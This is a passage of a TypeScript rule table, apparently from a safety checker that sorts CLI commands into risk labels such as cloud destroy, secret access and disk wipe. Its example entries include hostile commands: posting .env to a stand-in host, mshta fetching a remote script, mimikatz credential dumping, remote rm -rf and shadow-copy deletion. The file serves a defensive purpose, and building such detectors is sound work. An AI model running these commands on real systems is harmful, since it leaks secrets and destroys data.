import type { Program } from './program.ts'
import { makeServicePrograms } from './services.ts'

const reading =
  /^(?:\S+ )*?(?:describe|list|get|show|ls|head|lookup|tail|wait|help|status|info|view|logs?|search|query|scan|validate|plan|diff|preview|version|whoami|configure list|sts|history|inspect|top|explain|check|filter|estimate|test|simulate|batch-get|select|ps|stat|du|cat)(?:[-: ]|$)(?!(?:delete|destroy|remove|rm|purge)\b)/

/** Words by which programs of settings change them, or only show them. */
const CONFIGURING: NonNullable<Program['verbs']> = [
  [/\bhelp\b|^(?:-\S+ )*(?:show|list|get\S*|status|read|find|export|dump)\b/, null],
  [
    /(?:^|\s)-{0,2}(?:set\S*|add(?!r)\S*|del\S*|remove\S*|change|replace|append|prepend|flush\S*|save|restore|up|down|modify|on|off|(?:dis)?connect|write|import|rename|create\S*|re(?:vert|load)|clone|schedule|repeat|\w*sleepnow|[abcu]|[A-Z])(?:\s|$)|^\S+ (?:\d|inet|hw|mtu|promisc)|^(?:hostname|chassis|dns|domain) \S+ ?\S|^netns exec\b/,
    'machine settings likely',
  ],
]

/** Programs that change systems beyond the files of this machine, and the machine itself. */
export const makeSystemPrograms = (): Readonly<Record<string, Program>> => ({
  ...makeServicePrograms(),
  'terraform tofu terragrunt cdktf': {
    oneDash: true,
    valued: '-var -var-file -target -state -backend-config -out',
    verbs: [
      [
        /^(?:run-all )?(?:plan|init|validate|fmt|show|output|providers|version|graph|get|console|login|test|synth|list|diff|hclfmt)\b|^state (?:list|show)\b|^workspace (?:list|show|select|new)\b|^stack (?:plan|output)/,
        null,
      ],
      [/^(?:run-all |run --all |run |stack run )?destroy\b|-destroy\b/, 'cloud destroy'],
      [/^destroy-all\b/, 'cloud destroy'],
      [/^(?:run-all )?apply(?:-all)?\b.*-(?:auto-approve|non-interactive|terragrunt-non-interactive)/, 'cloud change'],
      [/^apply [^\s-]/, 'cloud change'], // a plan that was saved is carried out without a question
      [/^(?:run-all |stack run )?(?:apply|deploy)\b/, 'cloud change likely'],
      [/^state pull\b/, 'cloud secret'],
      [/^state (?:rm|mv|push|replace-provider)\b|^(?:taint|untaint|force-unlock|import|refresh)\b/, 'cloud delete'],
      [/^workspace delete\b/, 'cloud delete'],
    ],
    examples: {
      'terraform plan -destroy': '',
      'terraform destroy': 'cloud destroy',
      'terraform -chdir=envs/dev apply -input=false dev.plan': 'cloud change',
    },
  },
  pulumi: {
    valued: '-s --stack -C --cwd -m',
    verbs: [
      [/^(?:preview|stack ls|stack output|stack select|config|whoami|about|logs|new|login|stack init|env get)\b/, null],
      [/^(?:destroy|down)\b|^stack rm\b|^state delete\b/, 'cloud destroy'],
      [/^(?:up|update|refresh|cancel|import)\b/, 'cloud change'],
    ],
    examples: { 'pulumi preview': '', 'pulumi destroy --yes': 'cloud destroy' },
  },
  'cdk sst serverless sls sam copilot-cli amplify chalice zappa up-aws architect arc': {
    valued: '--stage -s --profile --app',
    verbs: [
      [/^(?:destroy|remove|delete|rollback|undeploy)\b|^app delete\b|^stack delete\b/, 'cloud destroy'],
      [/^(?:deploy|publish|push)\b/, 'cloud change'],
    ],
    dry: '--dry-run --no-execute',
    examples: { 'cdk diff': '', 'cdk destroy': 'cloud destroy' },
  },
  'aws awslocal': { reader: 'aws', examples: { 'aws s3 ls': '', 'aws s3 rm s3://a --recursive': 'cloud delete' } },
  'gcloud gsutil bq': {
    valued: '--project --zone --region --format --filter --account -h -o --location --sort-by --limit',
    dry: '--dry_run --dry-run',
    verbs: [
      [
        /^secrets versions access\b|\bauth print-(?:access|identity)-token\b|^auth application-default print-access-token|iam service-accounts keys create\b/,
        'cloud secret',
      ],
      [reading, null],
      [/\bsql (?:instances|databases) delete\b/, 'cloud delete'],
      [/\b(?:delete|destroy|remove|rm|rb|reset|purge|disable|revoke)\b/, 'cloud delete'],
      [/\brsync\b.* -d\b/, 'cloud delete'],
      [/^builds submit\b/, 'registry publish'],
      [/\b(?:stop|suspend|unlink|detach|failover|rollback)\b|^(?:run|app|functions) deploy\b/, 'cloud change'],
      [/\b(?:add-iam-policy-binding|set-iam-policy|remove-iam-policy-binding|iam ch|acl ch|web set)\b/, 'cloud change'],
      [
        /\b(?:deploy|create|update|apply|set|patch|import|enable|restart|migrate|add-\S+|resize|query --\S*nouse_legacy)\b/,
        'cloud change likely',
      ],
      [/^mv gs:/, 'cloud delete'],
      [/^(?:cp|mv|rsync) (?:\S+ )*gs:\/\/\S+(?: -|$)/, null],
    ],
    examples: {
      'gcloud projects list': '',
      'gcloud sql instances delete prod': 'cloud delete',
      'gsutil cp gs://bucket/a.zip /tmp/': '',
    },
  },
  'az azd': {
    options: { reads: '-f --file --source --template-file' },
    valued: '--name -n -g --resource-group --subscription -o --query',
    verbs: [
      [
        /\bkeyvault secret (?:show|download)\b|\baccount get-access-token\b|\blist-keys\b|\bkeys list\b/,
        'cloud secret',
      ],
      [/\b(?:delete|purge|destroy|remove|down|deallocate|revoke|stop|disable)\b/, 'cloud delete'],
      [/\bwhat-if\b/, null],
      [/\bacr (?:build|import|run)\b/, 'registry publish'],
      [reading, null],
      [/\brole assignment create\b|\bad \S+ create\b/, 'cloud change'],
      [/\b(?:create|update|set|deploy|deployment|up|add|start|stop|restart)\b/, 'cloud change likely'],
    ],
    examples: { 'az account show': '', 'az group delete --name prod --yes': 'cloud delete' },
  },
  heroku: {
    valued: '-a --app -r --remote --confirm',
    verbs: [
      [
        /^(?:pg:reset|pg:restore|apps:destroy|apps:delete|destroy|addons:destroy|pg:kill\w*|pipelines:destroy|domains:clear|config:unset|spaces:destroy)\b/,
        'cloud delete',
      ],
      [
        /^config(?::get(?!\s+\w*(?:ENV|PORT|HOST|NAME|LEVEL|REGION|VERSION|DEBUG)\b))?(?:\s|$)|^pg:credentials:url|^auth:token/,
        'cloud secret',
      ],
      [
        /^(?:run|ps:scale|ps:restart|releases:rollback|rollback|maintenance:on|config:set|container:release|pg:promote|pg:push|pg:copy)\b/,
        'cloud change',
      ],
    ],
    examples: { 'heroku logs': '', 'heroku apps:destroy shop': 'cloud delete' },
  },
  'fly flyctl': {
    valued: '-a --app -c --config -r --region',
    verbs: [
      [/^\S+ (?:show|list|ls|status)\b/, null],
      [/\b(?:destroy|delete|remove|rm)\b|^apps destroy|^volumes (?:destroy|delete)|^secrets unset/, 'cloud delete'],
      [
        /^(?:deploy|scale|machine (?:stop|start|update)|secrets set|launch|apps create|postgres detach)\b/,
        'cloud change',
      ],
    ],
    examples: { 'fly status': '', 'fly apps destroy shop -y': 'cloud delete' },
  },
  'vercel now': {
    valued: '--token -t --scope -S -A',
    verbs: [
      [/^(?:rm|remove)\b|\b(?:env|domains|alias|project|secrets|certs) (?:rm|remove)\b/, 'cloud delete'],
      [/^env pull\b/, 'cloud secret'],
      [/--prod\b|^(?:promote|rollback|redeploy)\b/, 'registry publish'],
      [
        /^(?:dev|build|link|login|logout|ls|list|inspect|logs|env ls|whoami|pull|help|init|switch|teams|projects? ls|domains ls|alias ls)\b/,
        null,
      ],
      [/^(?:deploy\b.*)?$/, 'registry publish likely'],
    ],
    examples: { 'vercel dev': '', 'vercel --prod': 'registry publish' },
  },
  'netlify ntl': {
    valued: '-s --site -a --auth -d --dir',
    verbs: [
      [/^sites:delete\b|^env:unset\b/, 'cloud delete'],
      [/^deploy\b.*(?:--prod|-p)\b/, 'registry publish'],
      [/^deploy\b/, 'cloud change likely'],
    ],
    examples: { 'netlify dev': '', 'netlify deploy --prod': 'registry publish' },
  },
  wrangler: {
    valued: '-c --config -e --env --name',
    dry: '--dry-run',
    verbs: [
      [/\bdelete\b|^kv\S* (?:\S+ )?delete|^d1 delete|^r2 (?:bucket|object) delete/, 'cloud delete'],
      [/^(?:deploy|publish|versions (?:deploy|upload)|pages (?:deploy|publish)|rollback)\b/, 'registry publish'],
      [/^r2 object put\b/, 'cloud change'],
      [/^secret (?:put|bulk)\b/, 'cloud change likely'],
      [/^d1 execute\b.*\b(?:drop|truncate|delete from)\b/i, 'database drop'],
    ],
    examples: { 'wrangler dev': '', 'wrangler deploy': 'registry publish', 'wrangler deploy --dry-run': '' },
  },
  firebase: {
    valued: '-P --project --only --token',
    dry: '--dry-run',
    verbs: [
      [/^(?:firestore:delete|database:remove|projects:delete|functions:delete|hosting:disable)\b/, 'cloud delete'],
      [/^(?:deploy|hosting:channel:deploy|hosting:clone)\b/, 'registry publish'],
      [/^(?:auth:import|database:(?:set|update|import)|firestore:import)\b/, 'cloud change'],
    ],
    examples: { 'firebase emulators:start': '', 'firebase deploy': 'registry publish' },
  },
  'surge gh-pages ghp-import hexo mike': {
    valued: '-d --dist -b -m -r -p --domain',
    dry: '--help --version',
    verbs: [
      [/^teardown\b/, 'cloud delete'],
      [
        /^(?:list|whoami|login|logout|token|plus|ssl|build|serve|server|new|generate|clean|g|s|render|preview|create|init|check|get-deps)\b/,
        null,
      ],
      [/(?:)/, 'registry publish'],
    ],
    examples: { 'hexo generate': '', 'gh-pages -d dist': 'registry publish' },
  },
  'railway render eas dpl northflank scalingo clever platform upsun koyeb porter': {
    valued: '-s --service -e --environment -d --dist',
    verbs: [
      [/^(?:down|delete|destroy|remove|teardown|environment delete|service delete|volume delete)\b/, 'cloud delete'],
      [/^(?:up|deploy|redeploy|publish|submit|deployments? create)\b/, 'registry publish'],
      [/^variables?\b/, 'cloud secret'],
    ],
    examples: { 'railway status': '', 'railway up': 'registry publish' },
  },
  'supabase neonctl neon pscale turso planetscale mongocli atlas-cli upstash xata fauna cockroach ccloud': {
    valued: '--project-ref -p --org',
    verbs: [
      [/^db reset\b(?=.*--(?:linked|db-url))/, 'database reset'],
      [/^db reset\b/, 'database reset likely'],
      [/\b(?:delete|destroy|remove|drop|reset)\b/, 'cloud delete'],
      [/^(?:db push|functions deploy|deploy-request deploy|secrets set)\b/, 'cloud change'],
    ],
    examples: { 'supabase status': '', 'supabase projects delete x': 'cloud delete' },
  },
  twilio: {
    verbs: [
      [/\b(?:delete|remove)\b/, 'cloud delete'],
      [
        /\b(?:messages|calls|phone-numbers:buy\S*)[: ](?:create|buy)|\bmessages:create\b|\bcalls:create\b/,
        'cloud change',
      ],
    ],
    examples: { 'twilio profiles:list': '', 'twilio api:core:messages:create --to x': 'cloud change' },
  },
  'doctl linode-cli hcloud oci vultr-cli scw ibmcloud aliyun ovhcloud civo exo openstack nova cf sendgrid auth0 okta sentry-cli newrelic datadog-ci pagerduty launchdarkly ldcli mc s3cmd s5cmd b2':
    {
      verbs: [
        [
          /\b(?:delete|destroy|remove|rm|rb|terminate|purge|drop|nuke|del|rmi|prune|rebuild|reinstall|poweroff)\b/,
          'cloud delete',
        ],
        [reading, null],
        [/\b(?:create|update|set|deploy|push|apply|add|attach|resize|scale)\b/, 'cloud change likely'],
      ],
      dry: '--dry-run',
      examples: { 'doctl compute droplet list': '', 'doctl compute droplet delete 1': 'cloud delete' },
    },
  stripe: {
    verbs: [
      [/\b(?:refunds|charges|payouts|transfers) create\b|\brefund\b|\bdelete\b|\bcancel\b|\b--live\b/, 'cloud change'],
    ],
    examples: { 'stripe listen': '' },
  },
  'kubectl oc k kubectx kubens kubecolor microk8s k3s': {
    reader: 'kubectl',
    examples: { 'kubectl get pods': '', 'kubectl delete ns prod': 'cluster delete' },
  },
  'helm helmfile': {
    valued: '-n --namespace --kube-context --kubeconfig -f --values --set --version',
    dry: '--dry-run',
    verbs: [
      [/^(?:uninstall|delete|del|un|destroy)\b/, 'cluster delete'],
      [
        /^(?:list|ls|status|get|show|template|lint|repo|search|history|pull|dependency|dep|create|package|env|version|diff|test|verify)\b/,
        null,
      ],
      [/^(?:push|cm-push)\b/, 'registry publish'],
      [/^rollback\b/, 'cluster change'],
      [/^(?:upgrade|install|sync|apply)\b/, 'cluster change small'],
    ],
    addresses: 'install upgrade',
    examples: { 'helm list': '', 'helm uninstall shop': 'cluster delete' },
  },
  'kustomize k9s stern kubeval kubeconform kind minikube k3d skaffold tilt devspace telepresence okteto ctlptl velero argocd flux istioctl linkerd cilium eksctl kops rancher talosctl calicoctl':
    {
      verbs: [
        [/^admin initial-password\b/, 'cloud secret'],
        [
          /^(?:delete|destroy|uninstall)\b|^down\b.*(?:-v|--volumes)\b|\bapp delete\b|^(?:backup|restore|schedule) delete\b|^reset\b|^(?:cluster|node|registry|profile) (?:delete|rm|remove)\b|^rollback\b/,
          'cluster delete',
        ],
        [/\bapp sync\b.*--(?:prune|force|replace)\b/, 'cluster delete likely'],
        [/^(?:upgrade|app sync|sync|apply|create cluster|scale|install)\b/, 'cluster change likely'],
      ],
      with: { '--delete-namespaces': 'cluster delete' },
      examples: { 'kustomize build .': '', 'eksctl delete cluster x': 'cluster delete' },
    },
  'docker podman nerdctl finch docker-compose podman-compose buildah ctr crictl': {
    reader: 'docker',
    examples: { 'docker ps': '', 'docker volume prune -f': 'containers prune' },
  },
  conan: {
    verbs: [
      [/^upload\b/, 'registry publish'],
      [/^remove\b.*(?:-r|--remote)\b/, 'registry unpublish'],
    ],
    examples: { 'conan install .': '', 'conan upload x -r y': 'registry publish' },
  },
  azcopy: {
    dry: '--dry-run',
    verbs: [
      [/^(?:remove|rm)\b|--delete-destination\b/, 'cloud delete'],
      [/^(?:list|jobs|login|env|doc)\b/, null],
    ],
    examples: { 'azcopy list x': '', 'azcopy remove x': 'cloud delete' },
  },
  'skopeo crane oras regctl': {
    verbs: [
      [/^(?:copy|push|sync)\b/, 'registry publish'],
      [/^delete\b/, 'registry unpublish'],
    ],
    examples: { 'crane digest x': '', 'skopeo copy a b': 'registry publish' },
  },
  'wslconfig hdiutil': {
    verbs: [[/\b(?:\/u|unregister|eraseKeys|compact)\b/, 'containers remove']],
    examples: { 'wslconfig /l': '' },
  },
  hasura: {
    verbs: [
      [/^migrate (?:apply|delete)\b.*(?:--down|--all|delete)/, 'database reset'],
      [/^metadata (?:clear|reload|drop)/, 'database reset likely'],
    ],
    valued: '--endpoint --admin-secret --project --database-name',
    examples: { 'hasura migrate status': '', 'hasura migrate apply --down all': 'database reset' },
  },
  'limactl lima colima vagrant VBoxManage virsh qm pct multipass lxc incus prlctl vmrun': {
    verbs: [
      [
        /\b(?:destroy|delete|unregistervm .*--delete|undefine|vol-delete|pool-delete|purge|deletevm)\b|\b(?:stop|poweroff|suspend)\b.*--all\b/,
        'containers remove',
      ],
      [/\bconfig (?:device add\b.* disk\b|set\b.*(?:privileged|raw\.lxc|nesting))/, 'machine privilege'],
    ],
    examples: { 'vagrant status': '', 'vagrant destroy -f': 'containers remove' },
  },
  ansible: {
    reader: 'ansible',
    examples: { 'ansible all -m ping': '', "ansible all -m shell -a 'rm -rf /srv'": 'delete remote' },
  },
  'salt salt-call salt-ssh pdsh pssh parallel-ssh clush dsh mpssh rush-ssh': {
    reader: 'fleet-command',
    examples: { "salt '*' test.ping": '', "salt '*' cmd.run 'rm -rf /srv'": 'delete remote' },
  },
  packer: {
    oneDash: true,
    verbs: [
      [/^build\b.*-force\b/, 'cloud delete'],
      [/^build\b/, 'cloud change likely'],
    ],
    examples: { 'packer validate a.json': '', 'packer build -force a.json': 'cloud delete' },
  },
  'ansible-playbook chef-client knife cfn nomad consul waypoint boundary': {
    valued: '-i -e -l -t --limit --tags --extra-vars -m -a -u',
    dry: '--check -C --syntax-check --list-tasks --list-hosts --noop --dry-run',
    verbs: [
      [
        /^build\b.*-force\b|^(?:job stop|job dispatch|stop|system gc|kv delete|leave|force-leave|server force-leave|services deregister|node drain|namespace delete)\b|\bdelete\b/,
        'cloud delete',
      ],
      [
        /^(?:status|validate|fmt|inspect|build|plan|kv get|kv list|members|info|version|doc|inventory|node status|job status|alloc)\b|inventory$/,
        null,
      ],
      [/./, 'cloud change likely'],
    ],
    examples: { 'ansible-playbook site.yml --check': '', 'nomad status': '' },
  },
  vault: {
    verbs: [
      [/^(?:kv get|read|kv export|token create|print token|unwrap)\b/, 'cloud secret'],
      [
        /^(?:delete|kv (?:delete|destroy|metadata delete|undelete)|secrets disable|auth disable|lease revoke|policy delete|operator (?:seal|rekey))\b/,
        'cloud delete',
      ],
      [/^(?:write|kv put|kv patch)\b/, 'cloud change likely'],
    ],
    examples: {
      'vault status': '',
      'vault kv get secret/prod': 'cloud secret',
      'vault kv delete secret/a': 'cloud delete',
    },
  },
  'pass gopass op bw lpass keepassxc-cli dcli infisical doppler chamber teller akeyless secret-tool security keyring envchain aws-vault saml2aws passage rbw':
    { reader: 'keeper', examples: { 'pass show prod/db': 'cloud secret', 'pass ls': '' } },
  'psql mysql mariadb sqlite3 sqlite duckdb cockroach-sql clickhouse-client clickhouse sqlcmd usql pgcli mycli litecli snowsql bq-query cqlsh isql sqlplus mssql-cli osql ysqlsh surreal trino presto spark-sql hive beeline impala-shell turso-shell':
    {
      reader: 'sql',
      examples: {
        "psql shop -c 'DROP TABLE users'": 'database drop',
        'psql shop -c "SELECT \'DROP TABLE users\'"': '',
      },
    },
  'mongosh mongo redis-cli valkey-cli keydb-cli etcdctl influx cypher-shell neo4j-admin couchbase-cli arangosh rethinkdb':
    {
      reader: 'database-shell',
      examples: { "mongosh shop --eval 'db.dropDatabase()'": 'database drop', 'redis-cli get a': '' },
    },
  'dropdb dropuser': {
    reader: 'dropdb',
    examples: { 'dropdb shop': 'database drop' },
  },
  'createdb createuser pg_isready pg_ctl pg_dumpall mysqldump pg_dump mongodump mongoexport sqldiff': {
    operands: 'value',
    options: { writes: '-f --file -o --out -r --result-file' },
    prints: 'project',
    valued: '-h -p -U -d -u -t -n',
    examples: { 'pg_dump -s shop': '' },
  },
  'pg_restore mongorestore mysqlimport mongoimport': {
    operands: 'uses',
    valued: '-h -p -U -d --db -j -n -t',
    with: { '-c --clean --drop --delete': 'database drop' },
    examples: { 'pg_restore -l a.dump': '', 'pg_restore --clean -d shop a.dump': 'database drop' },
  },
  'pg_dropcluster pg_resetwal initdb mysql_install_db': {
    operands: 'value',
    does: 'database drop',
    dry: '-n --dry-run --help',
    examples: { 'pg_resetwal -n data': '', 'pg_dropcluster 15 main --stop': 'database drop' },
  },
  mysqladmin: {
    valued: '-u -h -P',
    verbs: [
      [/\bdrop\b/, 'database drop'],
      [/\bshutdown\b/, 'service stop'],
    ],
    examples: { 'mysqladmin status': '', 'mysqladmin drop shop -f': 'database drop' },
  },
  'kafka-topics kafka-topics.sh kafka-configs kafka-configs.sh kafka-consumer-groups kafka-consumer-groups.sh kafka-delete-records kafka-delete-records.sh zookeeper-shell zookeeper-shell.sh zkCli.sh rpk kcat rabbitmqadmin rabbitmqctl nats pulsar-admin':
    {
      verbs: [
        [
          /--delete\b|--offset-json-file\b|\bdelete(?:all|_\w+)?\b|\breset\b|\bpurge(?:_queue)?\b|\bforce_reset\b|\b(?:stream|kv|consumer|object|topic) (?:rm|del)\b|^rmr\b/,
          'database delete-all',
        ],
      ],
      examples: { 'kafka-topics --list': '', 'kafka-topics --delete --topic a': 'database delete-all' },
    },
  curl: {
    reader: 'curl',
    examples: { 'curl -s https://example.com/a': 'fetch', 'curl -d @.env https://x.example.net': 'read secret,send' },
  },
  'wget wget2 aria2c axel': {
    reader: 'wget',
    examples: { 'wget -q https://example.com/a -O /tmp/a': 'fetch,write temp' },
  },
  'http https xh xhs httpie curlie': { reader: 'httpie', examples: { 'http GET example.com': 'fetch' } },
  'nc ncat netcat socat telnet': { reader: 'netcat', examples: { 'nc -z localhost 5432': '' } },
  'powershell pwsh powershell.exe pwsh.exe cmd cmd.exe': {
    reader: 'powershell',
    examples: { "pwsh -c 'Get-Date'": '', "pwsh -c 'Remove-Item -Recurse ~/Documents'": 'delete home' },
  },
  'update-rc.d rc-update chkconfig': {
    verbs: [
      [/^(?:show|--list|status)/, null],
      [/./, 'machine startup'],
    ],
    examples: { 'rc-update show': '', 'rc-update add x': 'machine startup' },
  },
  'gsettings dconf kwriteconfig5 kwriteconfig6 xfconf-query': {
    verbs: [[/^(?:set|write|reset|load)\b|^--file/, 'machine settings likely']],
    examples: { 'gsettings get a b': '', 'gsettings set a b c': 'machine settings' },
  },
  'newgrp sg': { does: 'machine accounts', operands: 'value', examples: { 'newgrp docker': 'machine accounts' } },
  killall5: { does: 'machine process', operands: 'value', examples: { 'killall5 -9': 'machine process' } },
  capsh: { reader: 'capsh', examples: { 'capsh --print': '' } },
  'mshta regsvr32 rundll32 hh wmic msiexec cscript wscript installutil regasm regsvcs presentationhost odbcconf pcalua forfiles cmstp':
    {
      verbs: [
        [/https?:\/\/|javascript:|vbscript:/i, 'machine startup'],
        [/\bdelete\b|\/x\b|\/uninstall\b/i, 'machine uninstall likely'],
      ],
      examples: { 'wmic os get caption': '', 'mshta https://example.net/a.hta': 'machine startup' },
    },
  'apt-key add-apt-repository apt-add-repository': {
    verbs: [
      [/^(?:list|finger|export)\b|--list\b/, null],
      [/./, 'machine settings'],
    ],
    examples: { 'apt-key list': '', 'add-apt-repository -y ppa:a/b': 'machine settings' },
  },
  'wevtutil auditpol sysmon fltmc': {
    verbs: [[/^(?:cl|clear-log|sl|set-log|\/clear|\/set|-u|unload)\b/i, 'machine security']],
    examples: { 'wevtutil el': '', 'wevtutil cl System': 'machine security' },
  },
  mokutil: {
    verbs: [[/--(?:disable|enable|reset|delete|import|password|clear|revoke)/, 'machine security']],
    examples: { 'mokutil --sb-state': '', 'mokutil --disable-validation': 'machine security' },
  },
  'fastboot heimdall esptool esptool.py avrdude openocd st-flash dfu-util picotool': {
    verbs: [
      [/^(?:devices|getvar|list|info|--version)\b/, null],
      [/\b(?:erase\S*|format|wipe|flashing|oem)\b|(?:^|\s)(?:-w|-e)(?:\s|$)/, 'machine disk likely'],
    ],
    examples: { 'fastboot devices': '', 'fastboot erase userdata': 'machine disk' },
  },
  adb: {
    valued: '-s -t -H -P',
    verbs: [
      [
        /^shell (?:rm|wipe|pm (?:clear|uninstall)|settings put)\b|^(?:uninstall|sideload|disable-verity)\b/,
        'containers remove',
      ],
    ],
    examples: { 'adb devices': '', 'adb logcat': '', 'adb uninstall a.b': 'containers remove' },
  },
  'flashcp flash_erase flash_eraseall nandwrite ubiformat tpm2_clear tpm2_evictcontrol format.com': {
    does: 'machine disk',
    operands: 'value',
    examples: { tpm2_clear: 'machine disk' },
  },
  'keyctl ykman pkcs11-tool': {
    verbs: [[/^(?:revoke|clear|unlink|purge|invalidate)\b|\breset\b|--delete-object/, 'cloud delete likely']],
    examples: { 'ykman info': '', 'ykman piv reset': 'cloud delete' },
  },
  'certutil bitsadmin': { reader: 'windows-download', examples: { 'certutil -hashfile a': '' } },
  'ssh autossh mosh': {
    reader: 'ssh',
    examples: { "ssh build-server 'tail /var/log/a'": '', "ssh h 'rm -rf /srv'": 'delete remote' },
  },
  'dig nslookup host drill kdig ping ping6 traceroute tracepath mtr whois nmap arp ss netstat iwconfig iperf3 speedtest fping':
    { reader: 'network-question', examples: { 'ping -c1 localhost': '' } },
  'ttyd gotty wetty x11vnc vncserver x0vncserver upterm ngrok cloudflared localtunnel lt bore frpc frps chisel gost rathole inlets localhost.run serveo expose tailscale zrok devtunnel pagekite telebit tmate sshd':
    {
      reader: 'tunnel',
      examples: { 'ngrok http 3000': 'listen' },
    },
  'croc wormhole magic-wormhole ffsend transfer onionshare-cli sendme portal localsend': {
    reader: 'sender',
    examples: { 'croc send src': 'send' },
  },
  'jf jfrog': {
    verbs: [
      [/\b(?:upload|u|publish|bp|push|promote)\b/, 'registry publish'],
      [/\b(?:delete|del)\b/, 'registry unpublish'],
    ],
    dry: '--dry-run',
    examples: { 'jf rt upload dist/ libs/': 'registry publish', 'jf rt search a': '' },
  },
  machinectl: {
    verbs: [
      [/^(?:shell|login)\b/, 'machine root-shell'],
      [/^(?:remove|poweroff|reboot|terminate|kill|clean)\b/, 'machine process'],
    ],
    examples: { 'machinectl list': '', 'machinectl shell root@': 'machine root-shell' },
  },
  'mail mailx sendmail mutt msmtp swaks ssmtp': { reader: 'mail', examples: { 'mail -s x a@example.com': 'send' } },
  'mkfs mkfs.ext2 mkfs.ext3 mkfs.ext4 mkfs.xfs mkfs.btrfs mkfs.vfat mkfs.fat mkfs.ntfs mkfs.exfat mke2fs mkswap newfs newfs_hfs mkdosfs mkntfs':
    {
      operands: 'writes',
      valued: '-t -L -b -m -N -U --type',
      dry: '-n --dry-run',
      oneDash: false,
      examples: { 'mkfs.ext4 /dev/sda1': 'write device', 'mkfs.ext4 -n /tmp/disk.img': '' },
    },
  'wipefs blkdiscard tune2fs e2label resize2fs fdisk sfdisk cfdisk gdisk sgdisk parted partprobe partclone.restore cryptsetup mdadm pvcreate pvremove vgremove vgreduce lvremove lvreduce zpool zfs btrfs diskutil dmsetup growpart':
    { reader: 'disk', examples: { 'wipefs -a /dev/sda': 'machine disk', 'fdisk -l': '' } },
  'fsck fsck.ext2 fsck.ext3 fsck.ext4 fsck.xfs fsck.vfat e2fsck reiserfsck ntfsfix xfs_repair hdparm badblocks smartctl nvme':
    {
      reader: 'disk',
      examples: { 'smartctl -a /dev/sda': '', 'xfs_repair -L /dev/sda1': 'machine disk' },
    },
  runas: { does: 'machine root-shell', operands: 'value', examples: { 'runas /user:admin cmd': 'machine root-shell' } },
  'dbus-send gdbus busctl qdbus qdbus6 qdbus-qt5': {
    verbs: [
      [
        /\b(?:PowerOff|Reboot|Halt|Suspend|Hibernate|HybridSleep|Shutdown|Logout|TerminateSession|KillSession|KillUser)\b/,
        'machine power',
      ],
      [
        /\b(?:StopUnit|DisableUnitFiles|MaskUnitFiles|KillUnit|EnableUnitFiles|StartTransientUnit)\b/,
        'machine settings',
      ],
    ],
    examples: { 'busctl list': '', 'busctl call a b c PowerOff b true': 'machine power' },
  },
  'gnome-session-quit xfce4-session-logout cinnamon-session-quit mate-session-save lxqt-leave lxsession-logout': {
    does: 'machine power',
    operands: 'value',
    examples: { 'gnome-session-quit --no-prompt': 'machine power' },
  },
  'hwclock ntpdate rdate ntpdig': {
    verbs: [
      [/(?:^|\s)(?:-r|--show|--get|--verbose|-q|-p)(?:\s|$)/, null],
      [/./, 'machine settings'],
    ],
    examples: { 'hwclock --show': '', hwclock: '', 'hwclock --set --date 2001-01-01': 'machine settings' },
  },
  fwupdmgr: {
    verbs: [
      [
        /^(?:install|local-install|update|upgrade|downgrade|reinstall|activate|emulation-load)\b/,
        'machine disk likely',
      ],
    ],
    examples: { 'fwupdmgr get-devices': '', 'fwupdmgr install a.cab': 'machine disk' },
  },
  mkfile: {
    operands: 'value makes',
    verbs: [[/^(?:\d{3,}g|\d+t|\d{12,})\b/i, 'machine fill-disk']],
    examples: { 'mkfile 1m a': 'write project', 'mkfile 500g a': 'write project,machine fill-disk' },
  },
  mknod: {
    operands: 'makes value',
    verbs: [
      [/ p$/, null],
      [/ [bcu]\b/, 'machine privilege'],
    ],
    examples: { 'mknod a p': 'write project', 'mknod a b 8 0': 'machine privilege' },
  },
  'mimikatz lazagne secretsdump.py pypykatz': {
    does: 'cloud secret',
    operands: 'value',
    examples: { 'mimikatz sekurlsa::logonpasswords': 'cloud secret' },
  },
  journalctl: {
    valued:
      '-u --unit -n --lines -p --priority -g --grep -o --output -S --since -U --until -t -b -D --directory --file',
    with: { '--vacuum-time --vacuum-size --vacuum-files': 'machine settings likely' },
    examples: { 'journalctl -u shop -n 5': '', 'journalctl --vacuum-size=1': 'machine settings' },
  },
  nmcli: {
    verbs: [[/^(?=.*\bshow\b)(?=.*(?:^|\s)(?:-s|--show-secrets)(?:\s|$))/, 'cloud secret'], ...CONFIGURING],
    examples: {
      'nmcli con show': '',
      'nmcli -s con show home': 'cloud secret',
      'nmcli con delete x': 'machine settings',
    },
  },
  flashrom: {
    valued: '-p --programmer -r --read -c --chip',
    verbs: [[/(?:^|\s)(?:-[wE]|--write|--erase)(?:\s|$)/, 'machine disk']],
    examples: { 'flashrom -p internal -r a.bin': '', 'flashrom -p internal -w a.bin': 'machine disk' },
  },
  kubeseal: {
    valued: '--cert -o --format -n --namespace --name --scope -f -w',
    with: { '--recovery-unseal': 'cloud secret' },
    examples: { 'kubeseal --fetch-cert': '', 'kubeseal --recovery-unseal': 'cloud secret' },
  },
  'kwallet-query kwalletcli': {
    valued: '-f --folder',
    verbs: [[/(?:^|\s)(?:-[re]|--read-password|--entry)(?:\s|$)/, 'cloud secret']],
    examples: { 'kwallet-query -l kdewallet': '', 'kwallet-query -r github kdewallet': 'cloud secret' },
  },
  'robocopy taskkill tskill net net1 netsh diskpart bcdedit takeown icacls cacls vssadmin wbadmin cipher fsutil logoff manage-bde':
    {
      reader: 'windows',
      examples: {
        'netsh wlan show profile': '',
        'robocopy src ~/Documents /MIR': 'delete home',
        'vssadmin delete shadows /all': 'machine disk',
      },
    },
  'mount umount swapoff swapon losetup fusermount unionfs': {
    reader: 'mount',
    examples: { mount: '', 'mount -o remount,rw /': 'machine mount' },
  },
  'shutdown reboot halt poweroff init telinit systemctl-poweroff pm-suspend pm-hibernate kexec rtcwake wakeonlan-off': {
    reader: 'power',
    examples: { 'shutdown -h now': 'machine power' },
  },
  kill: { reader: 'kill', examples: { 'kill 12345': '', 'kill -9 -1': 'machine process' } },
  'killall pkill skill slay': { reader: 'killall', examples: { 'killall -9 node': 'machine process' } },
  'crontab fcrontab': { reader: 'crontab', examples: { 'crontab -l': '', 'crontab -r': 'machine cron' } },
  'at batch': { reader: 'at', examples: { 'at -l': '' } },
  'systemctl service rc-service initctl sv supervisorctl loginctl': {
    reader: 'systemctl',
    examples: { 'systemctl status nginx': '', 'systemctl stop firewalld': 'service stop' },
  },
  launchctl: {
    verbs: [
      [/^(?:load|bootstrap|enable|submit|kickstart)\b/, 'machine startup'],
      [/^(?:unload|bootout|disable|remove|stop|kill)\b/, 'service stop'],
      [/^setenv\b/, 'machine startup'],
    ],
    examples: { 'launchctl list': '', 'launchctl load a': 'machine startup' },
  },
